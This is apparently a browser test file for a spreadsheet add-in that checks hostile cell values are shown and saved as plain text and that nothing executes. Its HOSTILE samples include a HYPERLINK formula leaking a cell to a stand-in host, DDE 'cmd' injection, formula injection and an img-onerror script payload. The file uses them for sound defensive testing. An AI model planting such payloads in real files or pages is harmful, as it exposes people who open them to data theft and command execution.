import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { read, type WorkBook, type WorkSheet } from '@e965/xlsx';
import { readFile } from 'node:fs/promises';
import type { FrameLocator, Page } from 'playwright-core';
import { tidy } from '../../core/tabular/cell-text.ts';
import { writeCsv } from '../../excel-addin/files/csv-writer.ts';
import { writeXlsx } from '../../excel-addin/files/xlsx-writer.ts';
import { madeUpCode } from '../support/large-list.ts';
import { BrowserOffice, chooseSheet, importFile } from './browser-office.ts';

/**
 * Cells with which spreadsheets and pages have been attacked or broken, from the file over pane, plan and trial draw to
 * the file that is saved, in a real browser; what is saved is read by a reader that is not ours.
 */
let office: BrowserOffice;
let page: Page;
let pane: FrameLocator;
/** Whatever a hostile cell could bring about: dialogs, errors, requests to where nothing of ours is. */
const happened: string[] = [];

const IMAGE = '<img src=x onerror="alert(1);top.hostile=1">';
const LONGEST = '字'.repeat(32_767);
const TURNED = '\u202e\u2069反过来的店\u200f';
const HOSTILE = {
  link: '=HYPERLINK("http://hostile.example/?x="&A1,"点我")',
  sum: '@SUM(1,2)',
  command: "+cmd|' /C calc'!A0",
  minus: '-2+3+cmd|x',
  image: IMAGE,
  turned: TURNED,
  hebrew: 'שלום 店',
  nul: '甲\u0000乙店',
  emoji: '😀👨‍👩‍👧𠮷店',
  longest: LONGEST,
} as const;
const LONE = '丙\ud83d店\ude00';
const HEADER = ['企业名称', '统一社会信用代码', '登记状态', '所在区县', '住所'];
const firmsOf = (texts: readonly string[], from: number): readonly (readonly string[])[] =>
  texts.map((text, index) => [text, madeUpCode(from + index), '存续', text.length > 99 ? '曾都区' : text, text]);
const XLSX_ROWS = [HEADER, ...firmsOf([...Object.values(HOSTILE), LONE], 70)];
const CSV_ROWS = [HEADER, ...firmsOf([...Object.values(HOSTILE), LONE], 90)];

beforeAll(async () => {
  office = await BrowserOffice.start();
  page = await office.context.newPage();
  page.on('dialog', (dialog) => {
    happened.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => happened.push(String(error)));
  page.on('request', (request) => {
    const { hostname, pathname, protocol } = new URL(request.url());
    if (hostname.includes('hostile') || pathname.endsWith('/x')) happened.push(`${protocol} ${request.url()}`);
  });
  await page.goto(`${office.running.server.addresses.office}/workbench/`);
  pane = page.frameLocator('iframe');
  await pane.getByRole('button', { name: '先不配对，只看名单' }).click();
  await pane.getByRole('button', { name: '下一步：方案' }).waitFor();
});

afterAll(() => office.close());

/** Saves what is on the desk, and gives the file's bytes. */
async function saved(menuItem: RegExp): Promise<Buffer> {
  await page.getByRole('button', { name: '另存为' }).click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: menuItem }).click(),
  ]);
  return readFile(await download.path());
}

/** Text of a cell as the other reader has it; whatever is no text is told by its type. */
function textAt(sheet: WorkSheet | undefined, address: string): string {
  const cell: unknown = sheet?.[address];
  if (typeof cell !== 'object' || cell === null || !('t' in cell) || !('v' in cell)) return 'no cell';
  return cell.t === 's' && typeof cell.v === 'string' ? cell.v : `type ${String(cell.t)}`;
}

/** Every cell with a formula, in any sheet. */
const formulasIn = (book: WorkBook): readonly string[] =>
  book.SheetNames.flatMap((name) =>
    Object.entries(book.Sheets[name] ?? {}).flatMap(([address, cell]: readonly [string, unknown]) =>
      typeof cell === 'object' && cell !== null && ('f' in cell || 'l' in cell) ? [`${name}!${address}`] : [],
    ),
  );

const read97 = (bytes: Buffer): WorkBook => read(bytes, { type: 'buffer', cellFormula: true, cellText: false });

/** What a person sees of a firm's name: without marks that nobody sees. */
const seen = (text: string): string => tidy(text);

/** Where a text is cut that fills a cell: how much of it a list keeps is told with its fault. */
const start = (text: string): string => text.slice(0, 80);

describe('hostile cells of a workbook', () => {
  test('are faults like any other in the pane, as text', async () => {
    await importFile(
      page,
      '虚构怪名单.xlsx',
      Buffer.from(writeXlsx({ sheets: [{ name: '虚构怪名单', rows: XLSX_ROWS }] })),
    );
    await page.getByRole('tab', { name: '虚构怪名单' }).waitFor();
    await chooseSheet(pane, '检查对象', '虚构怪名单');
    const card = pane.getByRole('region', { name: '检查对象' });
    await card.getByText('11 行', { exact: true }).waitFor();
    const head = card.getByRole('button', { name: /^检查对象/ });
    if ((await head.getAttribute('aria-expanded')) !== 'true') await head.click();
    await card.getByRole('button', { name: /区县不在名单里/ }).click();
    await card.getByText(IMAGE).first().waitFor();
    await card.getByText(HOSTILE.link).first().waitFor();
    await office.picture(page, 'hostile-faults');
    expect(await pane.locator('img[src=x]').count()).toBe(0);
  });

  test('do not turn our words around', async () => {
    const card = pane.getByRole('region', { name: '检查对象' });
    const line = card.locator('.fault-text', { hasText: 'שלום' }).first();
    await line.scrollIntoViewIfNeeded();
    // where the sentence's last word is drawn, and its first sign: our words go from left to right
    const [first, last] = await line.evaluate((element) => {
      const text = element.firstChild;
      const at = (offset: number): number => {
        const range = document.createRange();
        if (text === null) return Number.NaN;
        range.setStart(text, offset);
        range.setEnd(text, offset + 1);
        return range.getBoundingClientRect().left;
      };
      const words = element.textContent;
      return [at(words.indexOf('”') + 1), at(words.length - 1)];
    });
    expect(last).toBeGreaterThan(first);
    await office.picture(page, 'hostile-directions');
  });

  test('are drawn in a trial, every one', async () => {
    await pane.getByRole('button', { name: '下一步：方案' }).click();
    await pane.getByRole('button', { name: '选择抽查事项' }).click();
    await pane.getByRole('checkbox', { name: /SCJG-003/ }).check();
    await page.keyboard.press('Escape');
    await pane.getByRole('button', { name: /选择期限/ }).click();
    await pane.getByLabel('完成期限').last().fill(office.deadline);
    await page.keyboard.press('Escape');
    await pane.getByRole('button', { name: /^抽取：/ }).click();
    await pane.getByLabel('比例（%）', { exact: true }).last().fill('100');
    await page.keyboard.press('Escape');
    await office.picture(page, 'hostile-plan');
    await pane.getByRole('button', { name: '模拟抽取' }).click();
    await pane.getByText(/模拟抽取 \d+ 户 · \d+ 组/).waitFor();
    await office.picture(page, 'hostile-trial');
    const shown = await pane.locator('.team-firms li').allTextContents();
    const drawn = [
      HOSTILE.link,
      HOSTILE.sum,
      HOSTILE.command,
      IMAGE,
      HOSTILE.emoji,
      HOSTILE.nul,
      TURNED,
      LONE,
      LONGEST,
    ];
    expect(shown.map(start)).toEqual(expect.arrayContaining(drawn.map(seen).map(start)));
    await pane.getByRole('button', { name: '写入模拟表' }).click();
    await pane.getByText('已写入“模拟抽取”').waitFor();
    await office.picture(page, 'hostile-trial-sheet');
  });

  test('are saved as the text that they are, read by another program', async () => {
    const book = read97(await saved(/Excel 工作簿/));
    const sheet = book.Sheets['虚构怪名单'];
    for (const [index, [name = '', , , , address = '']] of XLSX_ROWS.entries()) {
      const row = String(index + 1);
      expect([textAt(sheet, `A${row}`), textAt(sheet, `E${row}`)]).toEqual([name, address]);
    }
    expect(formulasIn(book)).toEqual([]);
    const trial = book.Sheets['模拟抽取'];
    const written = Array.from({ length: 40 }, (_, row) => textAt(trial, `D${String(row + 1)}`));
    for (const text of [HOSTILE.link, HOSTILE.sum, HOSTILE.command, IMAGE, TURNED, HOSTILE.emoji]) {
      expect(written).toContain(seen(text));
    }
  });
});

describe('hostile cells of a text file', () => {
  test('are taken as any other file', async () => {
    await importFile(page, '虚构怪文本.csv', Buffer.from(writeCsv({ rows: CSV_ROWS }, { bom: true })));
    await page.getByRole('tab', { name: '虚构怪文本' }).waitFor();
    await page.getByText('已把“虚构怪文本.csv”加入本工作簿').waitFor();
  });

  test('of another program, which guards nothing, are text too', async () => {
    const raw = `${HEADER.join(',')}\r\n"${HOSTILE.link.replaceAll('"', '""')}",${madeUpCode(120)},存续,曾都区,=1+1\r\n`;
    await importFile(page, '虚构生文本.csv', raw);
    await page.getByRole('tab', { name: '虚构生文本' }).waitFor();
    const book = read97(await saved(/Excel 工作簿/));
    expect(formulasIn(book)).toEqual([]);
    const sheet = book.Sheets['虚构生文本'];
    expect([textAt(sheet, 'A2'), textAt(sheet, 'E2')]).toEqual([HOSTILE.link, '=1+1']);
    // UTF-8 has no halves of pairs, so the file never had them
    const texts = book.Sheets['虚构怪文本'];
    for (const [index, [name = '']] of CSV_ROWS.entries()) {
      expect(textAt(texts, `A${String(index + 1)}`)).toBe(name.replace(/\p{Cs}/gu, '\ufffd'));
    }
  });

  test('that no text file can hold are named when one is saved', async () => {
    await page.getByRole('tab', { name: '虚构怪名单' }).click();
    const text = (await saved(/当前工作表/)).toString('utf8');
    await page.getByText(/A12、D12、E12.*文本文件存不下/).waitFor();
    await office.picture(page, 'hostile-text-file');
    expect(text).toContain(`"'${HOSTILE.link.replaceAll('"', '""')}"`);
    expect(text).toContain(`'${HOSTILE.sum}`);
    expect(text).not.toMatch(/(?:^|,|\n)"?[=@]/);
    expect(text).toContain(HOSTILE.nul);
    expect(text).toContain(LONGEST);
  });
});

test('nothing was executed, asked for, or complained of', async () => {
  const marks = await Promise.all(page.frames().map((frame) => frame.evaluate(() => 'hostile' in window)));
  expect(marks).not.toContain(true);
  expect(await page.locator('img[src=x]').count()).toBe(0);
  expect(happened).toEqual([]);
});
